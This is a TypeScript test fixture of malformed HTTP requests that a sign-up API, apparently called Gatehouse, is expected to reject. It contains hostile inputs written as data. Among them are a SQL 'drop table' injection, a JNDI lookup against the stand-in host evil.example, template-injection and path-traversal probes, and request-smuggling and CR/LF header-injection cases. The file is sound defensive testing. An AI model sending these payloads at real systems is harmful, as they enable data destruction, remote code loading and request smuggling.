import { type BadRequest, goodSignUp, jsonInvalid, malformed, postJson, wire } from '../bad-request.js';

const body = JSON.stringify(goodSignUp);
const json = 'Content-Type: application/json';
const signUp = (...headers: string[]): Buffer => wire('POST', '/v1/users', { headers: [json, ...headers], body });
const framed = (...headers: string[]): Buffer => Buffer.concat([signUp(...headers)]);
const chunked = (chunks: string): Buffer =>
  wire('POST', '/v1/users', { headers: [json, 'Transfer-Encoding: chunked'], body: chunks });

/** No slug of any application, though most of them try to be more than a slug. */
const slugs = [
  'nobodys',
  'DEFAULT',
  'default ,default',
  'default\u0001',
  '__proto__',
  'constructor',
  'toString',
  "default'--",
  "'; drop table gatehouse.users; --",
  'default" or "1"="1',
  '$\u007bjndi:ldap://evil.example/x}',
  '{{7*7}}',
  '../default',
  '%64efault',
  '*',
  'null',
  'undefined',
  'défaut',
  'x'.repeat(5_000),
];

export const headers: readonly BadRequest[] = [
  ...slugs
    // A control character is no header at all.
    .map((slug) => ({
      what: `the application ${JSON.stringify(slug.slice(0, 40))}`,
      bytes: postJson('/v1/users', goodSignUp, `Gatehouse-Application: ${slug}`),
      ...(slug.includes('\u0001') ? malformed : { status: 400, code: 'application-unknown' }),
    })),
  {
    what: 'an application without a name',
    bytes: signUp('Gatehouse-Application:'),
    status: 400,
    code: 'application-unknown',
  },
  {
    what: 'the application’s header twice',
    bytes: signUp('Gatehouse-Application: default', 'Gatehouse-Application: default'),
    status: 400,
    code: 'application-unknown',
  },
  { what: 'a length that is no number', bytes: framed('Content-Length: many'), ...malformed },
  { what: 'a negative length', bytes: framed('Content-Length: -1'), ...malformed },
  { what: 'a length with a sign', bytes: framed(`Content-Length: +${body.length}`), ...malformed },
  { what: 'a hexadecimal length', bytes: framed('Content-Length: 0x40'), ...malformed },
  { what: 'a length beyond all numbers', bytes: framed(`Content-Length: ${'9'.repeat(40)}`), ...malformed },
  {
    what: 'two lengths that differ',
    bytes: framed(`Content-Length: ${body.length}`, 'Content-Length: 3'),
    ...malformed,
  },
  { what: 'two lengths in one', bytes: framed(`Content-Length: ${body.length}, 3`), ...malformed },
  {
    what: 'a length and chunks',
    bytes: wire('POST', '/v1/users', {
      headers: [json, 'Content-Length: 5', 'Transfer-Encoding: chunked'],
      body: '0\r\n\r\n',
    }),
    ...malformed,
  },
  {
    what: 'a transfer coding that nobody knows',
    bytes: wire('POST', '/v1/users', { headers: [json, 'Transfer-Encoding: chonked'], body: '0\r\n\r\n' }),
    ...malformed,
  },
  {
    what: 'a transfer coding behind chunks',
    bytes: wire('POST', '/v1/users', { headers: [json, 'Transfer-Encoding: chunked, gzip'], body: '0\r\n\r\n' }),
    ...malformed,
  },
  { what: 'a chunk whose size is no number', bytes: chunked('many\r\n{}\r\n0\r\n\r\n'), ...malformed },
  { what: 'a chunk of negative size', bytes: chunked('-2\r\n{}\r\n0\r\n\r\n'), ...malformed },
  { what: 'a chunk longer than its size', bytes: chunked('2\r\n{} and more\r\n0\r\n\r\n'), ...malformed },
  { what: 'a chunk of a size beyond all numbers', bytes: chunked(`${'f'.repeat(20)}\r\n{}\r\n`), ...malformed },
  { what: 'chunks that together are no JSON', bytes: chunked('1\r\n{\r\n1\r\n]\r\n0\r\n\r\n'), ...jsonInvalid },
  { what: 'a space before a header’s colon', bytes: signUp('X-Odd : x'), ...malformed },
  { what: 'a header without a colon', bytes: signUp('X-Odd'), ...malformed },
  { what: 'a header without a name', bytes: signUp(': x'), ...malformed },
  { what: 'a header’s name with a space', bytes: signUp('X Odd: x'), ...malformed },
  { what: 'a header’s name in another alphabet', bytes: signUp('X-\u00d6dd: x'), ...malformed },
  { what: 'a header over two lines', bytes: signUp('X-Odd: x\r\n y'), ...malformed },
  { what: 'a NUL in a header', bytes: signUp('X-Odd: \u0000'), ...malformed },
  { what: 'an escape character in a header', bytes: signUp('X-Odd: \u001b[31m'), ...malformed },
  { what: 'a bare line feed between headers', bytes: signUp('X-Odd: x\nX-More: y'), ...malformed },
  { what: 'a bare carriage return in a header', bytes: signUp('X-Odd: x\rX-More: y'), ...malformed },
  { what: 'no Host', bytes: Buffer.from('GET /health/live HTTP/1.1\r\n\r\n'), ...malformed },
  { what: 'two Hosts', bytes: signUp('Host: other'), ...malformed },
  {
    what: 'another version of HTTP',
    bytes: Buffer.from('GET /health/live HTTP/4.2\r\nHost: api\r\n\r\n'),
    ...malformed,
  },
  { what: 'no version of HTTP', bytes: Buffer.from('GET /health/live\r\nHost: api\r\n\r\n'), ...malformed },
];
